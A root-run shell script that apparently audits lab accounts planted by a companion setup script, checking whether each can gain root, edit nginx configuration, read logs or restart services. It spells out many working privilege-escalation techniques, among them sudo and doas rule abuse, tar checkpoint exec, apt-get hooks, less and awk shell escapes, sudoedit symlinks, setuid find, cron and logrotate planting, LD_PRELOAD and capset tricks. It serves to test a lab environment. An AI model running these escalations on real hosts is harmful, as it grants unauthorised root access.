# What each account that accounts.sh planted really can: one line `ACCOUNT CAPABILITY` for each. Run as root.   shellcheck shell=sh
set -u

# As the account itself: what it reaches, writes, reads and starts. Nothing is written but empty files in folders.
tries='
id=$(id -un) HOME=/home/$(id -un)
say() { echo "$id $1"; }
opens() { if [ -d "$1" ]; then true >"$1/.tried-$id"; else true >>"$1" || test -w "$1"; fi; }
becomes_root() {
  case $id in sudoers-*) echo "$id ALL=NOPASSWD: ALL" >"/etc/sudoers.d/$id" ;; esac
  [ "$(sudo -n /usr/bin/env id -u)" = 0 ] && return
  case $id in
  doas-*)
    for by in "/usr/bin/env id -u" "env id -u" "/bin/sh -c id\ -u"; do [ "$(eval "doas -n $by")" = 0 ] && [ "$by-$id" != "/usr/bin/env id -u-doas-args" ] && return; done
    [ "$(doas -n -u sudo-all /bin/sh -c "sudo -n id -u")" = 0 ] && return
    case $(X=/none.so doas -n /usr/bin/id -u 2>&1) in *none.so*preloaded*) return 0 ;; esac
    return 1 ;;
  esc-*)
    # Each in a folder of its own, with what the rule finds there.
    d=$(mktemp -d) && cd "$d" && mkdir json && touch json/__init__.py && echo "# it may" >job
    echo "id -u" >run.sh
    echo "import os; print(os.getuid())" >json/tool.py
    for by in "env sh" "timeout 5 /bin/sh" "nsenter -t 1 -m" "xargs sh"; do [ "$(echo "id -u" | sudo -n /usr/bin/$by)" = 0 ] && return; done
    [ "$(echo run.sh | sudo -n /usr/bin/xargs sh)" = 0 ] && return
    [ "$(echo "id -u" | sudo -n /usr/sbin/chroot /)" = 0 ] && return
    [ "$(sudo -n /bin/sh run.sh)" = 0 ] && return
    for alone in "" -I; do [ "$(echo {} | sudo -n /usr/bin/python3 $alone -m json.tool)" = 0 ] && return; done
    sudo -n /usr/bin/tar -cf /srv/star.tar --checkpoint=1 --checkpoint-action=exec="id -u >$d/as" /etc/hostname && [ "$(cat "$d/as")" = 0 ] && return
    sudo -n /usr/bin/cp job /etc/cron.d/esc && return
    cp job ~/job && sudo -n /usr/bin/cp ~/job /etc/cron.d/esc && return
    ln -s /etc/esc-mode ~/x && sudo -n /usr/bin/chmod 666 ~/x && [ -w /etc/esc-mode ] && return
    if [ "$id" = esc-not-there ]; then echo "id -u" >/tmp/not-there && [ "$(sudo -n /bin/sh /tmp/not-there)" = 0 ] && return; fi
    case $(sudo -n /usr/bin/apt-get update -o APT::Update::Pre-Invoke::="id -u; false" 2>/dev/null) in 0*) return 0 ;; esac
    [ "$(sudo -n /usr/bin/awk "BEGIN { system(\"id -u\") }")" = 0 ] && return
    rm -f ~/d/x && ln -s /etc/cron.d/edited-$id ~/d/x && SUDO_EDITOR="/bin/sh /tmp/edit" sudoedit -n ~/d/x && [ -e /etc/cron.d/edited-$id ] && return
    if [ "$id" = esc-less ]; then
      (sleep 1; echo "!id -u >$d/as"; sleep 1; printf "\nq") | script -qec "echo a | sudo -n /usr/bin/less" /dev/null >/dev/null
      [ "$(cat "$d/as")" = 0 ] && return
    fi
    return 1 ;;
  setuid-* | setgid-*)
    # find wants to come back to where it was started.
    cd /
    own="import os; i, g = os.geteuid(), os.getegid(); os.setregid(g, g); os.setreuid(i, i); os.execvp(\"sudo\", [\"sudo\", \"-n\", \"id\", \"-u\"])"
    for path in "$HOME/tools" /srv/gated /opt/gated /var/lib/gated /srv/games /opt/gsudo; do
      [ "$("$path/find" /srv -maxdepth 0 -exec id -u ";")" = 0 ] && return
      [ "$("$path/find" /srv -maxdepth 0 -exec python3 -c "$own" ";")" = 0 ] && return
      [ "$("$path/find" /srv -maxdepth 0 -exec test -w /run/docker.sock ";" -print)" = /srv ] && return
    done ;;
  cron-file | cron-owner)
    echo "@reboot root touch /run/tried-$id" >"/etc/cron.d/$id"
    return 1 ;;
  rotated-*)
    printf "/srv/rotated/*.log {\\n  size 1\\n  su root root\\n  firstaction\\n    touch /run/tried-%s\\n  endscript\\n}\\n" "$id" >"/etc/logrotate.d/$id"
    return 1 ;;
  hook-* | at-*)
    printf "#!/bin/sh\ntouch /run/tried-%s\n" "$id" >"/opt/hooks/$id"
    return 1 ;;
  gshadow-*)
    case $id in *-sudo) g=opsg ;; *-log) g=adm ;; *-gone) g=goneg ;; *-locked) g=lockedg ;; *-polkit | *-rules) g=polkitg ;; *) g=docker ;; esac
    gpasswd -a "$id" "$g"
    sg "$g" -c "test -w /run/docker.sock" && return
    [ "$(sg "$g" -c "sudo -n id -u")" = 0 ] && return
    [ "$(sg "$g" -c "systemd-run --no-ask-password -q --pipe --wait id -u")" = 0 ] && return
    return 1 ;;
  chroot-*)
    # A program without libraries, which writes a file there.
    for own in "/srv/$id" "/home/$id"; do
      mkdir -p "$own/usr/bin" && cp /sbin/ldconfig "$own/usr/bin/nice-name" || continue
      for by in "-R $own" ""; do
        sudo -n $by /usr/bin/nice-name -X -C /made -f /none
        [ "$(stat -c %U "$own/made")" = root ] && return
      done
    done
    return 1 ;;
  esac
  [ "$(sudo -n -u sudo-all /bin/sh -c "sudo -n id -u")" = 0 ] && return
  [ "$(sudo -n -g disk id -gn)" = disk ] && return
  SUDO_EDITOR=/usr/bin/true sudoedit -n -u root /etc/systemd/system/ollama.service && return
  [ "$(systemd-run --no-ask-password -q --pipe --wait id -u)" = 0 ] && return
  for path in /run/docker.sock /etc/systemd/system/ollama.service /etc/systemd/system/nginx.service.d /etc/systemd/system/other.service \
    /usr/sbin/nginx /etc/profile.d/acl.sh /etc/profile.d/twin.sh /etc/profile.d/masked.sh /srv/t/run /srv/u /etc/udev/rules.d/in/x /etc/ld.so.conf.d /home/sudo-all \
    /opt/backup /usr/local /opt/vendor/agent /etc/nginx-variables /opt/deploy/run; do
    (opens "$path") && return
  done
  case $(sudo -n LD_PRELOAD=/none.so id -u 2>&1) in *none.so*preloaded*[!0-9]0) return 0 ;; esac
  [ "$(/usr/local/bin/find /srv -maxdepth 0 -exec id -u ";")" = 0 ] && return
  # The owner gives the right to itself.
  chmod u+w /etc/profile.d/own.sh && return
  rm -f /etc/pam.d/st/none && mv /etc/pam.d/common-auth /etc/pam.d/st/x
}
if becomes_root; then say become-root; fi
if [ -n "$(find /etc/nginx -writable ! -type l -print -quit)" ] || SUDO_EDITOR=/usr/bin/true sudoedit -n -u root /etc/nginx/nginx.conf ||
  [ -w /etc/oauth2-proxy/mails.txt ] || echo | sudo -n /usr/bin/tee -a /etc/oauth2-proxy/mails.txt >/dev/null; then say change-configuration; fi
# One at a time: sudoedit writes the whole file anew, over what another appended meanwhile.
(
  flock 9
  (echo "error_log /run/tried-$id info;" >"/etc/nginx/conf.d/tried-$id.conf") || (echo "error_log /run/tried-$id info;" >>/etc/nginx/nginx.conf) ||
    SUDO_EDITOR="/bin/sh /tmp/edit" sudoedit -n /etc/nginx/nginx.conf
) 9>>/run/tried.lock
if cat /var/log/nginx/access.log >/dev/null || cat /var/log/nginx/bodies.log >/dev/null || sudo -n /usr/bin/cat /var/log/nginx/bodies.log >/dev/null || sg "${g:-none}" -c "cat /var/log/nginx/access.log" >/dev/null || [ -n "$(sudo -n /usr/bin/cat /srv/x /var/log/nginx/access.log)" ] || [ -n "$(journalctl -q -u ollama.service -n 1)" ] ||
  sudo -n /usr/bin/tail -n 1 /var/log/nginx/access.log >/dev/null || doas -n tail -n 1 /var/log/nginx/access.log >/dev/null ||
  [ -n "$(sudo -n /usr/bin/journalctl -u ollama.service | grep -v "^-- " | head -n 1)" ]; then say read-logs; fi
if sudo -n /usr/bin/systemctl restart ollama.service || doas -n systemctl restart ollama.service || systemctl --no-ask-password restart ollama.service ||
  sudo -n -u ollama /usr/bin/env sh -c "kill -0 \$(systemctl show -P MainPID ollama.service)"; then say control-services; fi
'
try() {
  echo "$1 exists"
  if [ "$(systemctl is-active "user@$(id -u "$1").service")" = active ] || [ -f "/var/spool/cron/crontabs/$1" ] || [ -n "$(find /var/spool/cron/atjobs -user "$1")" ]; then echo "$1 unattended"; fi
  setpriv --reuid "$1" --regid "$1" --init-groups -- sh -c "$tries" </dev/null 2>/dev/null
  ssh -n -i /root/planted.key -o BatchMode=yes -o StrictHostKeyChecking=yes -o UserKnownHostsFile=/root/planted.hosts "$1@127.0.0.1" true >/dev/null 2>&1
  # What is run for these two is no shell; ssh itself ends with 255 where sshd lets nobody in.
  case $?:$1 in 255:*) in=no ;; 0:* | *:ssh-sftp | *:ssh-asks) in=yes ;; *) in=no ;; esac
  if [ "$in" = yes ]; then
    echo "$1 login"
    # What PAM gives is there in a session alone.
    case $1 in caps-*)
      ssh -n -i /root/planted.key -o BatchMode=yes -o UserKnownHostsFile=/root/planted.hosts "$1@127.0.0.1" '
        for p in /usr/local/bin/python3.9*; do
          $p -c "import os; os.setuid(0); print(os.getuid())"; $p -c "open(\"/etc/shadow\").read(); print(0)"
          $p -c "import ctypes as c, os; h=(c.c_uint32*2)(0x20080522,0); d=(c.c_uint32*6)(); l=c.CDLL(None); l.capget(h,d); d[0]=d[1]; l.capset(h,d); os.setuid(0); print(os.getuid())"
        done' 2>/dev/null | grep -q '^0$' && echo "$1 become-root" ;;
    esac
  fi
}

# What edits a file of nginx, so that nginx itself writes one as root when it reads it anew.
echo 'echo "error_log /run/tried-$(id -un) info;" >>"$1"' >/tmp/edit
chmod 644 /tmp/edit
: >/run/tried.lock
chmod 666 /run/tried.lock
# The host knows its own keys.
sed 's/^/127.0.0.1 /' /etc/ssh/ssh_host_*_key.pub >/root/planted.hosts

# Only what was planted: `nothing` is the first. Eight at a time, which sshd takes without a refusal.
first=$(id -u nothing)
running=0
for name in $(getent passwd | awk -F: -v first="$first" '$3 >= first && $3 < 60000 { print $1 }'); do
  try "$name" &
  running=$((running + 1))
  if [ "$((running % 8))" = 0 ]; then wait; fi
done
wait
nginx -s reload
# What root runs by itself some day.
timeout 20 apt-get update >/dev/null 2>&1
for file in planted packed rotated-group; do logrotate -f -s /run/logrotate.state "/etc/logrotate.d/$file" 2>/dev/null; done
for job in planted lent argument; do "/etc/cron.daily/$job" 2>/dev/null; done
sh -lc true 2>/dev/null
dpkg --configure -a
mkdir -p /run/network
ifup planted >/dev/null 2>&1
atd
# cron runs such jobs once after each start of the host, which a file remembers.
rm -f /run/crond.reboot
echo '@reboot root touch /run/cron-looked' >/etc/cron.d/looked
systemctl restart cron
for _ in 1 2 3 4 5 6 7 8 9 10; do [ -e /run/cron-looked ] && break; sleep 1; done
[ -e /run/cron-looked ] || exit 1
sleep 2
for file in /run/tried-*; do [ "$(stat -c %U "$file")" = root ] && echo "${file#/run/tried-} become-root"; done
